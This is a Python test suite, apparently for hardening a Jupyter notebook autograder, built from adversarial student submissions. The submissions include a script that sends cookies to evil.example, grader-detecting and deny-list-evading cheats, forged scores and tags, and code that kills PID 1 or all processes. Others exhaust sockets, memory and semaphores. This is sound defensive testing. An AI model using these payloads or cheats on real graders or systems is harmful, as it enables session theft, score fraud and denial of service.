    s.name, s.links = "", {NAME: f"../../../source/{ASSIGNMENT}/{NAME}"}


@attack("a symbolic link beside the notebook", FULL, told="symbolic link")
def _symbolic_link_beside(s: Student) -> None:
    s.links = {"passwords": "/etc/passwd", "everything": "/"}


@attack("a time stamp from before the course", FULL, told="time stamp")
def _forged_time_stamp(s: Student) -> None:
    s.files["timestamp.txt"] = b"2001-01-01 00:00:00 UTC"


@attack("a time stamp from the future", FULL, told="time stamp")
def _future_time_stamp(s: Student) -> None:
    s.files["timestamp.txt"] = b"2999-01-01 00:00:00 UTC"


@attack("cell tags that skip execution", told="tag")
def _skip_tags(s: Student) -> None:
    s.set("softmax", ZEROS)
    for cell in s.cells:
        cell["metadata"]["tags"] = ["skip-execution"]


@attack("the test cells emptied", told="was changed")
def _emptied_tests(s: Student) -> None:
    s.set("softmax", ZEROS)
    s.set("softmax-values", "pass")
    s.set("softmax-stable", "1.0")


@attack("the points of the test cells raised")
def _raised_points(s: Student) -> None:
    s.set("softmax", ZEROS)
    for cell in s.cells:
        if "points" in cell["metadata"].get("nbgrader", {}):
            cell["metadata"]["nbgrader"]["points"] = 1000


@attack("outputs of full marks stored in the test cells")
def _forged_outputs(s: Student) -> None:
    s.set("softmax", ZEROS)
    for ident, text in (("softmax-values", "inf"), ("softmax-stable", "nan")):
        output = {"output_type": "execute_result", "data": {"text/plain": text}, "metadata": {}, "execution_count": 1}
        s.cell(ident)["outputs"] = [output]


@attack("a test cell turned into an answer cell")
def _test_as_answer(s: Student) -> None:
    s.set("softmax", ZEROS)
    s.cell("softmax-values")["metadata"]["nbgrader"] |= {"solution": True, "grade": False}


@attack("the tags of an answer and a test exchanged", (0.0, REST))
def _exchanged_tags(s: Student) -> None:
    s.set("softmax", ZEROS)
    a, b = s.cell("softmax")["metadata"], s.cell("softmax-values")["metadata"]
    a["nbgrader"], b["nbgrader"] = b["nbgrader"], a["nbgrader"]


@attack("scripts and HTML in markdown, outputs and errors", FULL)
def _scripts(s: Student) -> None:
    evil = "<script>fetch('https://evil.example/?'+document.cookie)</script><img src=x onerror=alert(1)>"
    s.add(evil + "\n\n[x](javascript:alert(1)) ![p](https://evil.example/p.png)", kind="markdown")
    s.add(
        f"from IPython.display import HTML, display\ndisplay(HTML({evil!r}))\nprint({evil!r})\nraise ValueError({evil!r})"
    )


@attack("marks of hidden tests in an answer", FULL, told="names hidden tests")
def _hidden_test_marks(s: Student) -> None:
    marks = "### BEGIN HIDDEN TESTS\n"
    s.set("softmax", f"{marks}{s.solutions['softmax']}\n{marks}x = 'BEGIN HIDDEN'")


@attack("an answer that recognises how it is called", (0.0, REST))
def _recognises_the_grader(s: Student) -> None:
    s.set(
        "softmax",
        _code("""
        def softmax(logits):
            import sys
            frame = sys._getframe(1)
            while frame:
                for value in list(frame.f_locals.values()):
                    if isinstance(value, torch.Tensor) and value is not logits and value.shape == logits.shape:
                        if bool(((value.sum(-1) - 1).abs() < 1e-3).all()) and bool((value >= 0).all()):
                            return value
                frame = frame.f_back
            return torch.zeros_like(logits)
        """),
    )


# --- what one answer does costs no other ---------------------------------------------------------------------------

CRASH = "def {name}(*arguments):\n    import os\n    os._exit(3)"
LOOP = "def {name}(*arguments):\n    while True:\n        pass"


@resource("two answers that end their process, a right third one", 3.0, told="exit code 3")
def _two_crashes(s: Student) -> None:
    s.set("softmax", CRASH.format(name="softmax"))
    s.set("cross_entropy", CRASH.format(name="cross_entropy"))


@resource("two answers that never come to an end, a right third one", 3.0)
def _two_loops(s: Student) -> None:
    s.set("softmax", LOOP.format(name="softmax"))
    s.set("cross_entropy", LOOP.format(name="cross_entropy"))


@resource("an answer that hangs and one that ends the process, the first of three right", 4.0)
def _loop_and_crash(s: Student) -> None:
    s.set("cross_entropy", LOOP.format(name="cross_entropy"))
    s.set("count_parameters", CRASH.format(name="count_parameters"))


@resource("an endless loop that swallows interrupts after another answer ended the process", 3.0)
def _crash_and_stubborn(s: Student) -> None:
    s.set("softmax", CRASH.format(name="softmax"))
    loop = "while True:\n        try:\n            while True: pass\n        except BaseException: pass"
    s.set("cross_entropy", f"def cross_entropy(logits, labels):\n    {loop}")


@resource("an endless loop in one part of an exercise with three tests: what was right before stays", (8.0, 10.0))
def _loop_in_one_part(s: Student) -> None:
    right = s.solutions["cross_entropy"].replace("def cross_entropy", "def right")
    s.set(
        "cross_entropy",
        f"{right}\n\ndef cross_entropy(a, b):\n    while bool((a.abs() > 500).any()): pass\n    return right(a, b)",
    )


@resource("a call that never ends at the end of an answer's own cell")
def _loop_at_the_end_of_an_answer(s: Student) -> None:
    s.set("softmax", s.solutions["softmax"] + "\n\nwhile True:\n    pass")


@resource("a call that ends the process at the end of an answer's own cell", REST, told="process")
def _crash_at_the_end_of_an_answer(s: Student) -> None:
    s.set("softmax", s.solutions["softmax"] + "\n\nimport os\nos._exit(1)")


@resource("six cells of the student's own that end the process", told="too many")
def _six_deadly_cells(s: Student) -> None:
    for _ in range(6):
        s.add("import os\nos._exit(1)")


@resource("twelve cells of the student's own that hang: the answers are judged all the same", told="left out")
def _twelve_endless_cells(s: Student) -> None:
    for _ in range(12):
        s.add("while True:\n    pass")


@resource("an own helper in a slow cell, and an answer that ends the process", REST, told="exit code 3")
def _slow_helper_and_crash(s: Student) -> None:
    s.set("softmax", CRASH.format(name="softmax"))
    s.add("import time\ntime.sleep(3)\ndef product(a, b):\n    return a * b")
    s.set("count_parameters", s.solutions["count_parameters"].replace("inputs * outputs", "product(inputs, outputs)"))


@resource("an answer that kills every process it can, again and again", REST, told="ends processes")
def _kills_everyone(s: Student) -> None:
    s.set("softmax", "def softmax(logits):\n    import os\n    os.kill(-1, 9)\n    os.kill(os.getpid(), 9)")


@resource("an answer that kills the original of which it is a copy", (0.0, 8.0))
def _kills_its_original(s: Student) -> None:
    for name in ("softmax", "cross_entropy"):
        s.set(name, f"def {name}(*arguments):\n    import os\n    os.kill(os.getppid(), 9)\n    os._exit(2)")


# --- what a process may see, and what may outlive it -----------------------------------------------------------------

_spy("see_the_first_process", "looks into the first process of its namespace, which is the grader's, and ends it", """
    import os, signal
    for name in ('environ', 'maps', 'mem', 'cwd', 'root', 'fd', 'cmdline', 'stat'):
        try:
            path = f'/proc/1/{name}'
            (os.listdir if name in ('cwd', 'root', 'fd') else lambda p: open(p, 'rb').read(1))(path); leaked = True
        except OSError:
            pass
    for number in (signal.SIGKILL, signal.SIGINT, signal.SIGTERM, signal.SIGSTOP):
        try: os.kill(1, number)
        except OSError: pass
    """)  # fmt: skip
_spy("see_mounts", "looks in the table of mounts for the grader's folders", """
    text = open('/proc/self/mountinfo').read()
    leaked = any(word in text for word in ('submitted', 'gradebook', '/source', 'grading'))
    """)  # fmt: skip
_spy("see_exchange", "looks for nbgrader's exchange, the caches and the homes of others", """
    import os, sys
    places = ('/usr/local', '/usr/local/share', '/usr/local/share/nbgrader', '/srv', '/var', '/opt', '/root', '/mnt', '/media')
    way = ' '.join([sys.prefix, sys.base_prefix, torch.__file__, os.environ.get('COURSE_DATA', ''), '.cache'])
    leaked = any(os.path.isdir(p) and any(n not in way for n in os.listdir(p)) for p in places)
    """)  # fmt: skip


@resource("undoes its parent's signal, blocks all others and loops: it ends with the grader", told="changes how")
def _outlives(s: Student) -> None:
    s.add(OUTLIVES)


OUTLIVES = _code("""
    import ctypes, os, signal
    if os.fork() == 0:
        os.setsid()
        ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
        while True:
            pass
""")


@resource("full buffers of thousands of sockets", told="of memory")
def _socket_buffers(s: Student) -> None:
    code = """
        import os, socket, time
        for _ in range(14):
            if os.fork() == 0:
                kept = []
                try:
                    while True:
                        kept.append(socket.socketpair())
                        for end in kept[-1]:
                            end.setblocking(False)
                            try:
                                while True: end.send(bytes(65536))
                            except BlockingIOError: pass
                except OSError: pass
                time.sleep(20)
                os._exit(0)
        time.sleep(3)
        """
    s.add(_code(code))


@resource("page tables of a mapping of two thousand gigabytes")
def _page_tables(s: Student) -> None:
    code = """
        import mmap
        size = 2 * 2**40
        m = mmap.mmap(-1, size, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | mmap.MAP_NORESERVE, prot=mmap.PROT_READ)
        total = 0
        for i in range(0, size, 2**21): total += m[i]
        """
    s.add(_code(code))


@resource("page tables of many mappings of one small file")
def _page_tables_of_a_file(s: Student) -> None:
    code = """
        import mmap
        with open('/tmp/f', 'wb') as f: f.truncate(2**24)
        kept = []
        with open('/tmp/f', 'r+b') as f:
            for _ in range(60_000):
                kept.append(mmap.mmap(f.fileno(), 2**24))
                for i in range(0, 2**24, 2**21): kept[-1][i]
        """
    s.add(_code(code))


@resource("semaphores, of which the kernel keeps as many as it is asked for")
def _semaphores(s: Student) -> None:
    s.add(
        "import ctypes\nlibc = ctypes.CDLL(None)\nmade = sum(libc.semget(0, 32000, 0o600) >= 0 for _ in range(2000))\nassert not made"
    )


# --- finished functions, and what a deny list cannot know -------------------------------------------------------------


def _finished(name: str, what: str, code: str, score: float = FULL, told: str = "") -> None:
    def spoil(s: Student) -> None:
        s.set("softmax", _code(code))

    spoil.__name__ = name
    attack(what, score, told=told)(spoil)


_finished("finished_in_a_thread", "the library's softmax, called in a thread of its own", """
    def softmax(logits):
        import threading
        found = []
        def work(): found.append(getattr(torch, 'soft' + 'max')(logits, -1))
        thread = threading.Thread(target=work)
        thread.start()
        thread.join()
        return found[0]
    """, REST, told="threads")  # fmt: skip
_finished("finished_in_a_pool", "the library's softmax, called in a pool of threads", """
    from concurrent.futures import ThreadPoolExecutor
    def softmax(logits):
        with ThreadPoolExecutor(1) as pool:
            return pool.submit(lambda: getattr(torch, 'soft' + 'max')(logits, -1)).result()
    """, REST, told="threads")  # fmt: skip
_finished("finished_in_a_low_thread", "the library's softmax, called in a thread below `threading`", """
    def softmax(logits):
        import _thread, time
        found = []
        _thread.start_new_thread(lambda: found.append(getattr(torch, 'soft' + 'max')(logits, -1)), ())
        while not found: time.sleep(0.001)
        return found[0]
    """, REST, told="threads")  # fmt: skip
_finished("waiting_thread", "the library's softmax, called in a thread that waited since its cell ran", """
    import queue, threading
    asked, told = queue.Queue(), queue.Queue()
    def work():
        while True: told.put(getattr(torch, 'soft' + 'max')(asked.get(), -1))
    threading.Thread(target=work, daemon=True).start()
    def softmax(logits):
        asked.put(logits)
        return told.get()
    """, told="threads")  # fmt: skip
_finished("masked_softmax", "a private softmax of the library", """
    def softmax(logits):
        return torch._masked_softmax(logits, torch.zeros(logits.shape, dtype=torch.bool), logits.ndim - 1)
    """, REST, told="private")  # fmt: skip
_finished("categorical", "the probabilities of a finished distribution", """
    def softmax(logits):
        return torch.distributions.Categorical(logits=logits).probs
    """, REST, told="finished answer")  # fmt: skip
_finished("gradient_of_logsumexp", "the gradient of logsumexp, which is softmax", """
    def softmax(logits):
        z = logits.detach().clone().requires_grad_()
        with torch.enable_grad():
            torch.logsumexp(z, -1).sum().backward()
        return z.grad
    """, told="work out what the exercise asks for")  # fmt: skip
_finished("modes_switched_off", "the watch switched off by a private function of the library", """
    from torch.utils._python_dispatch import _disable_current_modes
    def softmax(logits):
        with _disable_current_modes(), torch._C.DisableTorchFunction():
            return getattr(torch, 'soft' + 'max')(logits, -1)
    """, told="private")  # fmt: skip
_finished("sklearns_softmax", "the softmax of another library", """
    def softmax(logits):
        from sklearn.utils.extmath import softmax as borrowed
        flat = logits.reshape(-1, logits.shape[-1]).double().numpy()
        return torch.from_numpy(borrowed(flat)).reshape(logits.shape).to(logits.dtype)
    """, REST, told="finished answer")  # fmt: skip
_finished("scipy_by_name", "scipy's softmax, taken out of its module by a name that is put together", """
    import importlib
    def softmax(logits):
        special = importlib.import_module('scipy.special')
        return torch.from_numpy(getattr(special, 'soft' + 'max')(logits.numpy(), axis=-1))
    """, REST, told="importlib")  # fmt: skip
_finished("scipy_by_getattr", "scipy's softmax by getattr", """
    import scipy.special
    def softmax(logits):
        return torch.from_numpy(getattr(scipy.special, 'soft' + 'max')(logits.numpy(), axis=-1))
    """, REST, told="by its name")  # fmt: skip
_finished("filled_in_late", "results that a patched stream fills in after the call", """
    import sys
    waiting = []
    class Late(type(sys.stdout)):
        def flush(self):
            while waiting:
                result, logits = waiting.pop()
                result.copy_(torch.softmax(logits, -1))
    def softmax(logits):
        result = torch.zeros_like(logits)
        waiting.append((result, logits))
        sys.stdout = Late()
        return result
    """, REST, told="replaces sys.stdout")  # fmt: skip


# --- files that stop nobody -------------------------------------------------------------------------------------------


def _files(
    name: str, what: str, change: Callable[[Path], None], told: str = "",
    unprivileged: tuple[float, str, str] | None = None,
) -> None:  # fmt: skip
    def spoil(s: Student) -> None:
        s.afterwards.append(change)

    CASES.append(Case(name, "files", what, spoil, FULL, "graded", told, unprivileged))


def _nested(folder: Path) -> None:
    place = os.open(folder, os.O_RDONLY)
    for _ in range(1_200):
        os.mkdir("d", dir_fd=place)
        inner = os.open("d", os.O_RDONLY, dir_fd=place)
        os.close(place)
        place = inner
    os.close(place)


def _empty_files(folder: Path) -> None:
    (folder / "more").mkdir()
    for number in range(2_001):
        (folder / "more" / str(number)).touch()


def _folder_without_rights(folder: Path) -> None:
    (folder / "inner").mkdir()
    (folder / "inner").chmod(0)


def _sparse(folder: Path) -> None:
    with open(folder / "huge.bin", "wb") as file:
        file.truncate(2**40)


_files("two-thousand-files", "2 001 empty files beside a right notebook", _empty_files, told="files and folders")
_files("nested-folders", "1 200 folders in one another beside a right notebook", _nested, told="deep")
_files("named-pipe", "a pipe that nobody writes to beside a right notebook", lambda f: os.mkfifo(f / "pipe.ipynb"),
       told="not a plain file")  # fmt: skip
_files("sparse-file", "a file that says it holds a terabyte", _sparse)
_files("unreadable-folder", "a folder beside the notebook that nobody may enter", _folder_without_rights,
       unprivileged=(FULL, "graded", "cannot be read"))  # fmt: skip
_files("unreadable-notebook", "a notebook that nobody may read", lambda f: (f / NAME).chmod(0),
       unprivileged=(0.0, "unreadable", "Permission denied"))  # fmt: skip
_files("folder-not-to-enter", "a folder that may be listed but not entered", lambda f: f.chmod(0o444),
       unprivileged=(0.0, "unreadable", "Permission denied"))  # fmt: skip
_files("folder-not-to-list", "a folder that may be neither listed nor entered", lambda f: f.chmod(0),
       unprivileged=(0.0, "unreadable", "Permission denied"))  # fmt: skip
_files("student-not-to-enter", "a student's folder that may be listed but not entered", lambda f: f.parent.chmod(0o444),
       unprivileged=(0.0, "unreadable", "Permission denied"))  # fmt: skip


def _stamp_without_rights(folder: Path) -> None:
    (folder / "timestamp.txt").write_text("2001-01-01 00:00:00 UTC")
    (folder / "timestamp.txt").chmod(0)


_files("unreadable-time-stamp", "a time stamp that nobody may read", _stamp_without_rights, told="time stamp",
       unprivileged=(FULL, "graded", "time stamp"))  # fmt: skip
_files("time-stamp-folder", "a time stamp that is a folder", lambda f: (f / "timestamp.txt").mkdir())
_files("odd-names", "files whose names hold line ends, escapes and half letters",
       lambda f: [(f / n).touch() for n in ("a\nb.ipynb.txt", "\x1b[2J", "x" * 255, "-rf", "\u202egpj.txt")] and None)  # fmt: skip


# --- what would take long ---------------------------------------------------------------------------------------------


@resource("a set whose values all collide", REST)
def _colliding_set(s: Student) -> None:
    s.set(
        "softmax",
        _code("""
        class Colliding(set):
            def __iter__(self):
                return iter(range(0, 50_000 * (2**61 - 1), 2**61 - 1))

        def softmax(logits):
            return Colliding()
        """),
    )


@resource("a dictionary whose keys all collide", REST)
def _colliding_dictionary(s: Student) -> None:
    s.set(
        "softmax",
        _code("""
        class Key(int):
            def __hash__(self): return id(self)

        def softmax(logits):
            return {Key(i * (2**61 - 1)): 0 for i in range(50_000)}
        """),
    )


@resource("a class with a name of eight million letters", REST)
def _long_class_name(s: Student) -> None:
    s.set("softmax", "Long = type('x' * 8_000_000, (), {})\n\ndef softmax(logits):\n    return Long()")


@resource("an error with a name of eight million letters", REST)
def _long_error_name(s: Student) -> None:
    s.set(
        "softmax", "Long = type('x' * 8_000_000, (Exception,), {})\n\ndef softmax(logits):\n    raise Long('y' * 10**7)"
    )


@resource("text of seven million letters as a result", REST)
def _long_text(s: Student) -> None:
    s.set("softmax", "def softmax(logits):\n    return 'x' * 7_000_000")


@resource("two hundred cells of blanks, and no metadata")
def _blank_cells(s: Student) -> None:
    for cell in s.cells:
        cell["metadata"] = {}
        del cell["id"]
    blank = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": " " * 3_000}
    s.cells += [dict(blank) for _ in range(200)]


@resource("a hundred cells that are nearly like the one given out, and no metadata", REST)
def _like_the_stub(s: Student) -> None:
    for cell in s.cells:
        cell["metadata"] = {}
    s.cells.remove(s.cell("softmax"))
    for cell in s.cells:
        del cell["id"]
    stub = "def softmaxx(logits):\n    # YOUR CODE HERE\n" + "    a = (((((((((0)))))))))\n" * 100
    blank = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None}
    s.cells += [{**blank, "source": f"{stub}    return {i}"} for i in range(100)]


@resource("a megabyte of small functions in six cells")
def _much_code(s: Student) -> None:
    for number in range(6):
        s.add("".join(f"def f{number}_{i}(x): return x + {i}\n" for i in range(5_000)))


@resource("a megabyte of nested emphasis and brackets in markdown")
def _much_markdown(s: Student) -> None:
    for _ in range(20):
        s.add("[" * 8_000 + "*_" * 8_000 + "`" * 3_000, kind="markdown")
